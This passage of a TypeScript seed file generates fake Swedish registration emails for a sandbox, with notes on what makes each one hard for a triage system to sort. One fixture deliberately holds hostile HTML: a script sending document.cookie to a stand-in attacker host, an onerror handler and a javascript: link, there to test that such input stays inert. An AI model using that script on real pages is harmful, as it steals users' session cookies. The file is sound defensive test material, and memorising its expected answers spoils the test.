/**
 * The registration mails in the organiser's inbox before the seed consultation: what the triage sees on its first
 * run in the sandbox. The invitation asks people to register "by e-mail to the official", so the inbox holds what
 * such an address really gets: registrations written every which way, cancellations, questions, out-of-office
 * replies to the invitation and a forward from a colleague. The counts are the walkthrough's (step 4): 46 mails —
 * 38 registrations, 3 cancellations, 2 questions, 2 automatic replies and 1 forwarded registration — which
 * register 39 people, 3 of whom cancel, leaving 36 to invite.
 *
 * Everything is a pure function of the meeting start: the same start gives the same mails, byte for byte, so a
 * sandbox reset and a test see identical ids, times and bodies. `SEED_MAIL_EXPECTATIONS` says what each mail is,
 * so a triage can be measured against it; the `trap` of a mail says what makes it hard on purpose.
 */
import type { InternetMessageHeader, ItemBody, Message, Recipient } from '@microsoft/microsoft-graph-types';
import type { SandboxPerson } from '../contract';
import { SEED_PEOPLE } from './people';

/** 12 December 2023 at 13.00 Stockholm time (CET, UTC+1), as the seed invitation says. */
export const SEED_MEETING_START_ISO = '2023-12-12T12:00:00Z';

export type SeedMailKind = 'registration' | 'cancellation' | 'question' | 'automatic-reply' | 'forwarded-registration';

/** A person a mail registers or cancels, as the ledger should end up holding them. */
export interface ExpectedMailPerson {
  readonly name: string;
  /** Normalised: lower case, no display name (what `normaliseEmail` in src/core/registration returns). */
  readonly email: string;
  /** The canonical organisation name, even where the mail only has a short form, a domain or nothing. */
  readonly organisation: string;
}

export interface SeedMailExpectation {
  readonly mailId: string;
  readonly kind: SeedMailKind;
  /** Registered (registration, forwarded-registration) or cancelled (cancellation); empty for the other kinds. */
  readonly people: readonly ExpectedMailPerson[];
  /** What makes this mail hard to triage on purpose, in a sentence; absent when it is a plain case. */
  readonly trap?: string;
}

// ---------------------------------------------------------------------------------------------------------------
// Time

/** A moment relative to the meeting: `daysBefore` calendar days before the meeting's UTC date, at `utc` (HH:MM). */
interface When {
  readonly daysBefore: number;
  readonly utc: `${number}:${number}`;
}

/** When the organiser sent the invitation out to the organisations; the out-of-office replies answer it. */
const INVITATION_SENT: When = { daysBefore: 20, utc: '08:00' };
const INVITATION_SUBJECT = 'Inbjudan till samråd om Sveriges nya handlingsplan för Open Government Partnership';
const STOCKHOLM = 'Europe/Stockholm';

interface MeetingClock {
  /** Epoch milliseconds of a `When`, plus some seconds so that no two mails look machine-made. */
  at(when: When, seconds?: number): number;
  /** "12 december" */
  readonly daySv: string;
  /** "12 December" */
  readonly dayEn: string;
  /** "12/12" — day/month, as people write a date in a hurry. */
  readonly dateShort: string;
  /** "12 dec" */
  readonly dayShortSv: string;
  /** "13.00" — Swedish writes the time with a dot. */
  readonly timeSv: string;
}

// An offset is required: without one Date.parse reads local time, and the seed would depend on the machine's zone.
// The pattern also keeps out what V8's lenient parser would accept anyway ("den 12 december" is a date to it).
const ISO_WITH_OFFSET = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}(?::\d{2}(?:\.\d{1,9})?)?(?:Z|[+-]\d{2}:\d{2})$/;

function meetingClock(meetingStartIso: string): MeetingClock {
  const start = ISO_WITH_OFFSET.test(meetingStartIso) ? Date.parse(meetingStartIso) : Number.NaN;
  if (Number.isNaN(start)) {
    throw new RangeError(`seedRegistrationMails: not an ISO 8601 date-time with Z or an offset: ${meetingStartIso}`);
  }
  const date = new Date(start);
  const [y, m, d] = [date.getUTCFullYear(), date.getUTCMonth(), date.getUTCDate()];
  const part = (locale: string, options: Intl.DateTimeFormatOptions): string =>
    new Intl.DateTimeFormat(locale, { timeZone: STOCKHOLM, ...options }).format(start);
  return {
    at(when, seconds = 0) {
      const [hh = 0, mm = 0] = when.utc.split(':').map(Number);
      // Date.UTC rolls a negative day of the month back into the previous month, which is what "days before" means.
      return Date.UTC(y, m, d - when.daysBefore, hh, mm, seconds);
    },
    daySv: part('sv-SE', { day: 'numeric', month: 'long' }),
    dayEn: part('en-GB', { day: 'numeric', month: 'long' }),
    dateShort: part('sv-SE', { day: 'numeric', month: 'numeric' }),
    dayShortSv: part('sv-SE', { day: 'numeric', month: 'short' }).replace(/\.$/, ''),
    timeSv: part('sv-SE', { hour: '2-digit', minute: '2-digit', hourCycle: 'h23' }).replace(':', '.'),
  };
}

/** Graph's form: UTC, whole seconds, `Z`. */
function graphDateTime(epochMs: number): string {
  return new Date(epochMs).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

/** Outlook's Swedish header line in a quoted or forwarded mail: "den 29 november 2023 16:02". */
function outlookSentSv(epochMs: number): string {
  const parts = new Intl.DateTimeFormat('sv-SE', {
    timeZone: STOCKHOLM,
    day: 'numeric',
    month: 'long',
    year: 'numeric',
    hour: '2-digit',
    minute: '2-digit',
    hourCycle: 'h23',
  }).formatToParts(epochMs);
  const get = (type: Intl.DateTimeFormatPartTypes): string => parts.find((p) => p.type === type)?.value ?? '';
  return `den ${get('day')} ${get('month')} ${get('year')} ${get('hour')}:${get('minute')}`;
}

// ---------------------------------------------------------------------------------------------------------------
// Opaque, stable identifiers

/** FNV-1a over UTF-16 code units: tiny, deterministic, and enough to make ids that do not reveal the mail's kind. */
function fnv1a(text: string, basis: number): number {
  let hash = basis;
  for (let i = 0; i < text.length; i++) {
    hash ^= text.charCodeAt(i);
    hash = Math.imul(hash, 0x01000193) >>> 0;
  }
  return hash;
}

function hex16(text: string): string {
  const a = fnv1a(text, 0x811c9dc5).toString(16).padStart(8, '0');
  const b = fnv1a(text, 0x050c5d1f).toString(16).padStart(8, '0');
  return a + b;
}

// Graph ids are opaque base64-like strings; the prefixes imitate Exchange's so that the ids look like what a real
// mailbox returns, and the alphabet stays URL-safe so the sandbox can put them in paths unencoded.
const messageId = (key: string): string => `AAMkADVkZWVk${hex16(`message:${key}`)}AAA`;
const conversationIdOf = (key: string): string => `AAQkADVkZWVk${hex16(`conversation:${key}`)}`;

// ---------------------------------------------------------------------------------------------------------------
// Bodies

type Body = { readonly contentType: 'text'; readonly lines: readonly string[] } | { readonly contentType: 'html'; readonly html: string };

/** Exchange stores plain-text bodies with CRLF line ends; a triage that splits on "\n" keeps a "\r" it must trim. */
const text = (...lines: readonly string[]): Body => ({ contentType: 'text', lines });

function esc(value: string): string {
  return value.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
}

/** One `<div>` per line, `<div><br></div>` for an empty one: how Outlook on the web and Gmail write paragraphs. */
function divs(lines: readonly string[]): string {
  return lines.map((line) => (line === '' ? '<div><br></div>' : `<div>${esc(line)}</div>`)).join('\r\n');
}

/** New Outlook / Outlook on the web. */
function outlookHtml(inner: string): Body {
  return {
    contentType: 'html',
    html:
      '<html><head>\r\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\r\n' +
      '<style type="text/css" style="display:none;"> P {margin-top:0;margin-bottom:0;} </style>\r\n</head>\r\n' +
      '<body dir="ltr">\r\n<div class="elementToProof" style="font-family: Aptos, Calibri, Helvetica, sans-serif; ' +
      `font-size: 12pt; color: rgb(0, 0, 0);">\r\n${inner}\r\n</div>\r\n</body>\r\n</html>\r\n`,
  };
}

/** Gmail (Google Workspace), with its `-- ` signature block. */
function gmailHtml(lines: readonly string[], signature: readonly string[]): Body {
  return {
    contentType: 'html',
    html:
      '<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body>' +
      `<div dir="ltr">${divs(lines)}<br clear="all"><div><br></div><span class="gmail_signature_prefix">-- </span><br>` +
      `<div dir="ltr" class="gmail_signature" data-smartmail="gmail_signature">${divs(signature)}</div></div>` +
      '</body></html>',
  };
}

/** Apple Mail: no wrapper div, `&nbsp;` wherever two spaces were typed. */
function appleHtml(inner: string): Body {
  return {
    contentType: 'html',
    html:
      '<html><head><meta http-equiv="content-type" content="text/html; charset=utf-8"></head>' +
      `<body style="overflow-wrap: break-word; -webkit-nbsp-mode: space; line-break: after-white-space;">${inner}</body></html>`,
  };
}

const ENTITIES: Readonly<Record<string, string>> = { nbsp: '\u00A0', amp: '&', lt: '<', gt: '>', quot: '"', '#39': "'" };

/**
 * Graph's bodyPreview: the first 255 characters of the body as text. Scripts, styles and the head are not text;
 * whitespace is collapsed. Cut on code points, so an emoji is never split into a lone surrogate.
 */
function previewOf(body: Body): string {
  const plain =
    body.contentType === 'text'
      ? body.lines.join(' ')
      : body.html
          .replace(/<(head|style|script)\b[\s\S]*?<\/\1>/gi, ' ')
          .replace(/<[^>]*>/g, ' ')
          .replace(/&(nbsp|amp|lt|gt|quot|#39);/g, (_, name: string) => ENTITIES[name] ?? '');
  return Array.from(plain.replace(/[ \t\r\n]+/g, ' ').trim()).slice(0, 255).join('');
}

function graphBody(body: Body): ItemBody {
  return body.contentType === 'text'
    ? { contentType: 'text', content: body.lines.join('\r\n') }
    : { contentType: 'html', content: body.html };
}

// ---------------------------------------------------------------------------------------------------------------
// The mails

interface MailContext {
  readonly organiser: SandboxPerson;
  /** The organiser's first name, as people greet her. */
  readonly hello: string;
  readonly clock: MeetingClock;
  person(id: string): SandboxPerson;
  /** Outlook's Swedish "Skickat:" line for another seed mail, for quotes and forwards. */
  sentSv(key: string): string;
}

interface MailSpec {
  /** Stable and unique; every Graph id of the mail is derived from it. */
  readonly key: string;
  readonly kind: SeedMailKind;
  /** The sender's seed id. */
  readonly from: string;
  /** How the sender's client wrote the From line, where it differs from the directory. */
  readonly fromName?: string;
  readonly fromAddress?: string;
  readonly received: When;
  /** Seed ids of the people registered or cancelled. */
  readonly people: readonly string[];
  readonly cc?: readonly string[];
  /** The conversation it belongs to when it is a reply; else its own. */
  readonly conversation?: string;
  readonly autoReply?: true;
  readonly isRead?: boolean;
  readonly trap?: string;
  readonly subject: (c: MailContext) => string;
  readonly body: (c: MailContext) => Body;
}

const INVITATION_CONVERSATION = 'invitation';

/** Ingrid Sandberg's registration, quoted again in her cancellation. */
const ingridRegistration = (c: MailContext): readonly string[] => [
  `Hej ${c.hello},`,
  '',
  `Tack för inbjudan! Jag vill gärna delta i samrådet om OGP-handlingsplanen den ${c.clock.daySv}.`,
  '',
  'Vänliga hälsningar',
  'Ingrid Sandberg',
  'Transparency International Sverige',
  '08-465 004 17',
];

// Phone numbers are from the ranges Sweden's PTS reserves for fiction (070-174 06 05–99, 08-465 004 00–99).
const MAIL_SPECS: readonly MailSpec[] = [
  // --- The invitation goes out; two out-of-office replies bounce straight back. ---------------------------------
  {
    key: 'autoreply-oskar-nilsson',
    kind: 'automatic-reply',
    from: 'oskar.nilsson',
    received: { daysBefore: 20, utc: '08:01' },
    people: [],
    conversation: INVITATION_CONVERSATION,
    autoReply: true,
    trap: 'An out-of-office reply that talks about "anmälan" and carries another address.',
    subject: () => `Autosvar: ${INVITATION_SUBJECT}`,
    body: () =>
      text(
        'Hej!',
        '',
        'Tack för ditt mejl. Jag är föräldraledig under hösten och läser inte min e-post.',
        'Gäller det anmälan till LSU:s utbildningar eller nätverksträffar, kontakta kansliet@lsu.example.',
        '',
        'Hälsningar',
        'Oskar Nilsson',
        'LSU – Sveriges ungdomsorganisationer',
      ),
  },
  {
    key: 'autoreply-robin-larsen',
    kind: 'automatic-reply',
    from: 'robin.larsen',
    received: { daysBefore: 20, utc: '08:02' },
    people: [],
    conversation: INVITATION_CONVERSATION,
    autoReply: true,
    subject: () => `Automatic reply: ${INVITATION_SUBJECT}`,
    body: () =>
      outlookHtml(
        divs([
          'Thank you for your message. I am out of the office with limited access to e-mail.',
          'For urgent matters, please contact info@wikimedia-sverige.example.',
          '',
          'Robin Larsen',
          'Wikimedia Sverige',
        ]),
      ),
  },

  // --- Week 1 ----------------------------------------------------------------------------------------------------
  {
    key: 'registration-sofia-lindqvist',
    kind: 'registration',
    from: 'sofia.lindqvist',
    received: { daysBefore: 20, utc: '09:41' },
    people: ['sofia.lindqvist'],
    subject: (c) => `Anmälan till samråd om OGP den ${c.clock.daySv}`,
    body: (c) =>
      text(
        `Hej ${c.hello}!`,
        '',
        `Jag anmäler mig härmed till samrådet om Sveriges handlingsplan för Open Government Partnership den ${c.clock.daySv} kl. ${c.clock.timeSv}.`,
        'Ser fram emot diskussionen, inte minst om tillgängliggörande av data som rör barns rättigheter.',
        '',
        'Med vänlig hälsning',
        '',
        'Sofia Lindqvist',
        'Policyrådgivare, demokrati och civilsamhälle',
        'Rädda Barnen',
        'Tel. 070-174 06 12',
      ),
  },
  {
    key: 'registration-leyla-yilmaz',
    kind: 'registration',
    from: 'leyla.yilmaz',
    received: { daysBefore: 20, utc: '13:22' },
    people: ['leyla.yilmaz'],
    trap: 'English; the signature is one line with | separators.',
    subject: (c) => `Registration: OGP consultation ${c.clock.dayEn}`,
    body: (c) =>
      outlookHtml(
        divs([
          `Dear ${c.hello},`,
          '',
          `I would like to register for the consultation on Sweden's OGP action plan on ${c.clock.dayEn}. I work on anti-corruption and civic space and would be glad to contribute to the discussion on the third question.`,
          '',
          'Best regards,',
          'Leyla Yilmaz | Programme Officer | Civil Rights Defenders',
          '+46 70 174 06 21 | leyla.yilmaz@crd.example',
        ]),
      ),
  },
  {
    key: 'registration-gustav-ekman',
    kind: 'registration',
    from: 'gustav.ekman',
    received: { daysBefore: 19, utc: '07:55' },
    people: ['gustav.ekman'],
    trap: 'The organisation is abbreviated ("TI Sverige").',
    subject: () => 'Anmälan samråd OGP',
    body: (c) =>
      text(
        'Hej,',
        '',
        `Anmäler mig härmed till samrådet den ${c.clock.daySv}.`,
        '',
        'Mvh',
        'Gustav Ekman',
        'Sakkunnig antikorruption',
        'TI Sverige',
      ),
  },
  {
    key: 'registration-ingrid-sandberg',
    kind: 'registration',
    from: 'ingrid.sandberg',
    received: { daysBefore: 19, utc: '10:12' },
    people: ['ingrid.sandberg'],
    subject: () => 'Anmälan samråd OGP',
    body: (c) => text(...ingridRegistration(c)),
  },
  {
    key: 'registration-david-forsberg',
    kind: 'registration',
    from: 'david.forsberg',
    received: { daysBefore: 19, utc: '15:40' },
    people: ['david.forsberg'],
    trap: 'Written in the third person, as if the organisation registers him.',
    subject: () => 'Anmälan OGP',
    body: (c) =>
      text(
        'Hej,',
        '',
        `Civil Rights Defenders anmäler härmed David Forsberg till samrådet den ${c.clock.daySv}.`,
        '',
        'Med vänlig hälsning',
        'David Forsberg',
        'Civil Rights Defenders',
      ),
  },
  {
    key: 'registration-mikael-strand-and-karin-ek',
    kind: 'registration',
    from: 'mikael.strand',
    received: { daysBefore: 18, utc: '14:30' },
    people: ['mikael.strand', 'karin.ek'],
    cc: ['karin.ek'],
    trap: 'The one mail that registers two people: the sender and a colleague (on copy).',
    subject: () => 'Anmälan – två deltagare från Forum',
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        `Vi blir två från Forum som vill delta i samrådet den ${c.clock.daySv}:`,
        '– Mikael Strand (jag), mikael.strand@socialforum.example',
        '– Karin Ek, karin.ek@socialforum.example',
        '',
        'Karin står på kopia.',
        '',
        'Med vänlig hälsning',
        'Mikael Strand',
        'Policyansvarig',
        'Forum – idéburna organisationer med social inriktning',
        '070-174 06 33',
      ),
  },
  {
    key: 'registration-elin-bjork',
    kind: 'registration',
    from: 'elin.bjork',
    fromName: 'Elin Björk (Sveriges Konsumenter)',
    received: { daysBefore: 18, utc: '15:02' },
    people: ['elin.bjork'],
    trap: 'The organisation is in the From display name; the signature is an HTML table.',
    subject: () => `Anmälan: ${INVITATION_SUBJECT}`,
    body: (c) =>
      outlookHtml(
        divs(['Hej!', '', `Jag anmäler mig till samrådet om handlingsplanen för OGP den ${c.clock.daySv}.`, '', 'Med vänlig hälsning']) +
          '\r\n<table style="border-collapse:collapse"><tbody><tr>' +
          '<td style="padding-right:8px;border-right:2px solid #0a7d5a"><b>Elin Björk</b><br>Utredare</td>' +
          '<td style="padding-left:8px">Sveriges Konsumenter<br>08-465 004 23</td>' +
          '</tr></tbody></table>',
      ),
  },
  {
    key: 'registration-mattias-grahn',
    kind: 'registration',
    from: 'mattias.grahn',
    fromName: 'Mattias G',
    received: { daysBefore: 17, utc: '21:47' },
    people: ['mattias.grahn'],
    trap: 'A private address: the organisation is only in the signature, the full name too.',
    subject: () => 'Anmälan',
    body: () =>
      text(
        'Hej,',
        '',
        'Jag vill anmäla mig till samrådet om handlingsplanen för OGP. Jag skriver från min privata adress eftersom jag är ideellt engagerad.',
        '',
        '/Mattias Grahn',
        'Styrelseledamot, Open Knowledge Sverige',
      ),
  },

  // --- Week 2 ----------------------------------------------------------------------------------------------------
  {
    key: 'registration-johan-nystrom',
    kind: 'registration',
    from: 'johan.nystrom',
    received: { daysBefore: 15, utc: '08:47' },
    people: ['johan.nystrom'],
    subject: () => 'Anmälan till samråd OGP 2023–2025',
    body: (c) =>
      outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          `Jag vill anmäla mig till samrådet om Sveriges handlingsplan för OGP 2023–2025 den ${c.clock.daySv}.`,
          '',
          'Med vänlig hälsning',
          'Johan Nyström',
          'Handläggare, Avdelningen för digitalisering',
          'Sveriges Kommuner och Regioner',
          '08-465 004 31',
        ]),
      ),
  },
  {
    key: 'question-miriam-tesfaye',
    kind: 'question',
    from: 'miriam.tesfaye',
    received: { daysBefore: 15, utc: '10:05' },
    people: [],
    trap: 'Talks about registering ("Before I register") without registering.',
    subject: () => 'Question about the OGP consultation',
    body: (c) =>
      outlookHtml(
        divs([`Dear ${c.hello},`, '', `Before I register, two practical questions about the consultation on ${c.clock.dayEn}:`]) +
          '\r\n<ul><li>Will the meeting be held in Swedish only, or can we contribute in English?</li>' +
          '<li>The invitation mentions Skype – will it be possible to join via Teams instead?</li></ul>\r\n' +
          divs(['Many thanks,', 'Miriam Tesfaye', 'Civil Rights Defenders']),
      ),
  },
  {
    key: 'registration-johanna-lund',
    kind: 'registration',
    from: 'johanna.lund',
    received: { daysBefore: 15, utc: '12:15' },
    people: ['johanna.lund'],
    trap: 'Only a first name is written; the organisation is only in the domain.',
    subject: () => 'anmälan',
    body: (c) => text(`hej, jag vill anmäla mig till samrådet ${c.clock.dateShort}.`, '', 'mvh', 'Johanna'),
  },
  {
    key: 'registration-emma-nord',
    kind: 'registration',
    from: 'emma.nord',
    received: { daysBefore: 14, utc: '09:30' },
    people: ['emma.nord'],
    trap: 'The subject does not say it is a registration.',
    subject: (c) => `Samråd ${c.clock.dateShort}`,
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        `Jag skulle gärna vara med på samrådet den ${c.clock.daySv} om OGP. Skicka gärna inbjudan med länken till mig.`,
        '',
        'Hälsningar,',
        'Emma Nord',
        'Naturskyddsföreningen',
      ),
  },
  {
    key: 'registration-tomas-kowalski',
    kind: 'registration',
    from: 'tomas.kowalski',
    received: { daysBefore: 14, utc: '11:11' },
    people: ['tomas.kowalski'],
    trap: 'The organisation is written short ("Funktionsrätt").',
    subject: () => 'Anmälan till OGP-samrådet',
    body: (c) =>
      outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          'Härmed anmäler jag mig till samrådet om Sveriges handlingsplan för Open Government Partnership.',
          'Vi ser gärna att tillgänglighet för personer med funktionsnedsättning tas upp under diskussionsfråga 2.',
          '',
          'Med vänlig hälsning',
          'Tomas Kowalski',
          'Funktionsrätt',
        ]),
      ),
  },
  {
    key: 'registration-annika-blom',
    kind: 'registration',
    from: 'annika.blom',
    received: { daysBefore: 14, utc: '13:40' },
    people: ['annika.blom'],
    subject: () => 'Anmälan från Funktionsrätt Sverige',
    body: (c) =>
      text(
        `Anmälan till samråd om OGP-handlingsplanen ${c.clock.daySv}`,
        '',
        'Namn: Annika Blom',
        'Organisation: Funktionsrätt Sverige',
        'E-post: annika.blom@funktionsratt.example',
        'Ev. behov av anpassning: skrivtolk',
        '',
        '/Annika',
      ),
  },
  {
    key: 'registration-amir-haddad',
    kind: 'registration',
    from: 'amir.haddad',
    received: { daysBefore: 13, utc: '08:22' },
    people: ['amir.haddad'],
    trap: '"Vi vill gärna delta" (we) but only the sender registers.',
    subject: () => 'Vill delta i samrådet om OGP',
    body: (c) =>
      text(
        'Hej!',
        '',
        `Jag heter Amir Haddad och jobbar med demokratifrågor på LSU. Vi vill gärna delta i samrådet om OGP den ${c.clock.daySv} – anmäl mig gärna.`,
        '',
        'Vänligen',
        'Amir',
        'LSU',
      ),
  },
  {
    key: 'registration-ebba-lind',
    kind: 'registration',
    from: 'ebba.lind',
    received: { daysBefore: 13, utc: '12:03' },
    people: ['ebba.lind'],
    subject: (c) => `Anmälan OGP ${c.clock.dayShortSv}`,
    body: (c) =>
      gmailHtml(
        [`Hej ${c.hello},`, '', `Jag anmäler mig till samrådet den ${c.clock.daySv}.`, '', 'Hälsningar', 'Ebba'],
        ['Ebba Lind', 'Påverkansansvarig | LSU – Sveriges ungdomsorganisationer', '070-174 06 44'],
      ),
  },
  {
    key: 'forward-lina-holm',
    kind: 'forwarded-registration',
    from: 'per.akesson',
    received: { daysBefore: 12, utc: '08:20' },
    people: ['lina.holm'],
    cc: ['lina.holm'],
    trap: 'Forwarded by a colleague: the registrant is in the quoted mail, not the sender.',
    subject: () => 'VB: Anmälan till OGP-samrådet',
    body: (c) => {
      const lina = c.person('lina.holm');
      return outlookHtml(
        divs([
          `Hej ${c.hello},`,
          '',
          'Lina skickade sin anmälan till vår funktionsbrevlåda i stället för till dig, så jag vidarebefordrar den här. Lina står på kopia.',
          '',
          'Hälsningar',
          'Per Åkesson',
          'Kommunikatör, Naturskyddsföreningen',
        ]) +
          '\r\n<div id="appendonsend"></div>\r\n<hr style="display:inline-block;width:98%" tabindex="-1">\r\n' +
          '<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">' +
          `<b>Från:</b> ${esc(`${lina.displayName} <${lina.mail}>`)}<br>` +
          `<b>Skickat:</b> ${c.sentSv('original-lina-holm')}<br>` +
          `<b>Till:</b> ${esc('Info Naturskyddsföreningen <info@naturskyddsforeningen.example>')}<br>` +
          '<b>Ämne:</b> Anmälan till OGP-samrådet</font><div>&nbsp;</div></div>\r\n' +
          divs([
            'Hej!',
            '',
            `Jag vill anmäla mig till samrådet om Sveriges handlingsplan för OGP den ${c.clock.daySv}.`,
            '',
            'Vänliga hälsningar',
            'Lina Holm',
            'Policyhandläggare, Naturskyddsföreningen',
          ]),
      );
    },
  },
  {
    key: 'registration-sara-viklund',
    kind: 'registration',
    from: 'sara.viklund',
    received: { daysBefore: 12, utc: '09:15' },
    people: ['sara.viklund'],
    conversation: INVITATION_CONVERSATION,
    trap: 'A reply ("SV:") to the invitation; the quote holds the organiser\'s own address after "Anmälan:".',
    subject: () => `SV: ${INVITATION_SUBJECT}`,
    body: (c) =>
      text(
        `Hej ${c.hello},`,
        '',
        'Jag anmäler mig gärna till samrådet!',
        '',
        'Sara Viklund',
        'Open Knowledge Sverige',
        '',
        '________________________________',
        `Från: ${c.organiser.displayName} <${c.organiser.mail}>`,
        `Skickat: ${c.sentSv(INVITATION_CONVERSATION)}`,
        'Till: Samråd OGP <samrad-ogp@regeringskansliet.example>',
        `Ämne: ${INVITATION_SUBJECT}`,
        '',
        `Samråd om Sveriges nya handlingsplan för (OGP) 2023–2025`,
        `Tid och datum: ${c.clock.daySv} kl. ${c.clock.timeSv}`,
        `Anmälan: till ${c.organiser.mail}`,
        '',
        'Varmt välkommen önskar Finansdepartementet!',
      ),
  },
  {
    key: 'registration-henrik-dahl',
    kind: 'registration',
    from: 'henrik.dahl',
    received: { daysBefore: 12, utc: '10:33' },
    people: ['henrik.dahl'],
    trap: 'Names a colleague who "kan tyvärr inte delta" — neither a cancellation nor a second registration.',
    subject: () => 'Anmälan: Henrik Dahl, Journalistförbundet',
    body: () =>
      text(
        'Anmäler mig till samrådet. Maja Östlund, som brukar bevaka OGP-frågorna hos oss, kan tyvärr inte delta den här gången.',
        '',
        'Mvh Henrik',
      ),
  },
  {
    key: 'registration-eva-hedlund',
    kind: 'registration',
    from: 'eva.hedlund',
    received: { daysBefore: 11, utc: '08:10' },
    people: ['eva.hedlund'],
    trap: 'Mentions a colleague who has already registered; only the sender registers here.',
    subject: () => 'Anmälan SKR',
    body: (c) =>
      text(
        'Hej!',
        '',
        `Anmäler mig till samrådet den ${c.clock.daySv}. Min kollega Johan Nyström har redan anmält sig, vi blir alltså två från SKR.`,
        '',
        'Med vänlig hälsning',
        'Eva Hedlund',
        'Sveriges Kommuner och Regioner',
      ),
  },
  {
    key: 'registration-lars-pettersson',
    kind: 'registration',
    from: 'lars.pettersson',
    fromName: 'Pettersson Lars',
    received: { daysBefore: 11, utc: '09:55' },
    people: ['lars.pettersson'],
    trap: 'The From display name is "Surname Firstname".',
    subject: (c) => `Deltagande i samråd ${c.clock.daySv}`,
    body: (c) =>
      outlookHtml(
        divs([
          'Hej,',
          '',
          `Jag deltar gärna i samrådet den ${c.clock.daySv} kl. ${c.clock.timeSv}.`,
          '',
          'Hälsningar',
          'Lars Pettersson',
          'SKR | Sveriges Kommuner och Regioner',
        ]),
      ),
  },
  {
    key: 'registration-axel-berglund',
    kind: 'registration',
    from: 'axel.berglund',
    received: { daysBefore: 11, utc: '14:20' },
    people: ['axel.berglund'],
    subject: () => 'Registration for the OGP consultation',
    body: (c) =>
      text(
        `Hi ${c.hello},`,
        '',
        `I'd like to register for the OGP consultation on ${c.clock.dayEn}. I'm following the open data commitments for Wikimedia Sverige.`,
        '',
        'Best regards,',
        'Axel Berglund',
        'Wikimedia Sverige',
      ),
  },

  // --- Week 3 ----------------------------------------------------------------------------------------------------
  {
    key: 'registration-asa-oberg-nunez',
    kind: 'registration',
    from: 'asa.oberg-nunez',
    received: { daysBefore: 10, utc: '10:14' },
    people: ['asa.oberg-nunez'],
    trap: 'Emoji (one a ZWJ sequence) in subject and body, non-breaking spaces, and the signature name in NFD form.',
    subject: () => '🙋‍♀️ Anmälan till samrådet!',
    body: (c) =>
      text(
        `Hej ${c.hello}! 👋`,
        '',
        `Jag vill\u00A0gärna anmäla mig till samrådet den ${c.clock.daySv.replace(' ', '\u00A0')} 🌱 – ser fram emot det!`,
        '',
        // Decomposed (NFD), as macOS writes names typed into a signature: equal to her name only after NFC.
        'Åsa\u00A0Öberg-Ñúñez'.normalize('NFD'),
        'Studieförbunden i samverkan',
        '☎ 070-174 06 58',
      ),
  },
  {
    key: 'registration-sanna-hjelm',
    kind: 'registration',
    from: 'sanna.hjelm',
    received: { daysBefore: 8, utc: '09:05' },
    people: ['sanna.hjelm'],
    subject: () => 'Anmälan – Wikimedia Sverige',
    body: (c) =>
      appleHtml(
        `<div>Hej ${esc(c.hello)}!</div><div><br></div>` +
          `<div>Jag vill anmäla mig till samrådet den ${esc(c.clock.daySv)}.&nbsp; Vi är särskilt intresserade av åtagande 1 och 2 om öppna data.</div>` +
          '<div><br></div><div>Vänliga hälsningar</div><div>Sanna Hjelm</div><div>Verksamhetsutvecklare, Wikimedia Sverige</div>',
      ),
  },
  {
    key: 'registration-birgitta-sjoberg',
    kind: 'registration',
    from: 'birgitta.sjoberg',
    received: { daysBefore: 8, utc: '11:45' },
    people: ['birgitta.sjoberg'],
    trap: 'The signature uses the organisation\'s long name ("Famna – Riksorganisationen för …").',
    subject: () => 'Anmälan till samrådet',
    body: (c) =>
      text(
        'Hej,',
        '',
        `Härmed anmäler jag mig till samrådet om OGP den ${c.clock.daySv}.`,
        '',
        'Med vänliga hälsningar',
        'Birgitta Sjöberg',
        'Famna – Riksorganisationen för idéburen vård och omsorg',
      ),
  },
  {
    key: 'registration-fredrik-lundgren',
    kind: 'registration',
    from: 'fredrik.lundgren',
    received: { daysBefore: 8, utc: '13:30' },
    people: ['fredrik.lundgren'],
    trap: 'Hostile HTML — a <script>, an onerror= handler and a javascript: link — that must stay inert text.',
    subject: () => 'Anmälan OGP-samråd',
    body: (c) =>
      outlookHtml(
        divs([`Hej ${c.hello},`, '', `Jag vill anmäla mig till samrådet om OGP-handlingsplanen den ${c.clock.daySv}.`]) +
          "\r\n<script>fetch('https://collect.attacker.example/steal?c=' + encodeURIComponent(document.cookie))</script>\r\n" +
          '<img src="https://tracker.givasverige.example/pixel.gif" width="1" height="1" alt="" onerror="alert(\'samrad\')">\r\n' +
          '<div>Läs gärna vår rapport: <a href="javascript:alert(document.domain)">Insamlingsbarometern 2023</a></div>\r\n' +
          divs(['', 'Vänliga hälsningar', 'Fredrik Lundgren', 'Policyansvarig, Giva Sverige']),
      ),
  },
  {
    key: 'registration-nour-alkhatib',
    kind: 'registration',
    from: 'nour.alkhatib',
    received: { daysBefore: 7, utc: '08:40' },
    people: ['nour.alkhatib'],
    subject: () => 'Anmälan',
    body: (c) =>
      text(
        `Hej ${c.hello}`,
        '',
        `Jag vill anmäla mig till samrådet om OGP ${c.clock.daySv}.`,
        'Tack på förhand!',
        '',
        'Nour Al-Khatib',
        'Svenska Röda Korset',
        '',
        'Skickat från min iPhone',
      ),
  },
  {
    key: 'registration-johan-nystrom-again',
    kind: 'registration',
    from: 'johan.nystrom',
    fromAddress: 'Johan.Nystrom@SKR.example',
    received: { daysBefore: 7, utc: '09:01' },
    people: ['johan.nystrom'],
    trap: 'The same person registers a second time, from the address in different case.',
    subject: () => 'Anmälan samråd OGP (skickar igen)',
    body: () =>
      text(
        'Hej igen,',
        '',
        'Jag är osäker på om mitt förra mejl kom fram, så jag skickar min anmälan en gång till: Johan Nyström, SKR.',
        '',
        'Mvh',
        'Johan',
      ),
  },
  {
    key: 'registration-erik-magnusson',
    kind: 'registration',
    from: 'erik.magnusson',
    received: { daysBefore: 7, utc: '10:20' },
    people: ['erik.magnusson'],
    subject: () => 'Anmälan till samråd om handlingsplan för OGP',
    body: (c) =>
      outlookHtml(
        divs([
          'Hej,',
          '',
          `Jag anmäler mig till samrådet den ${c.clock.daySv} om Sveriges handlingsplan för OGP.`,
          '',
          'Med vänlig hälsning / Kind regards',
          'Erik Magnusson',
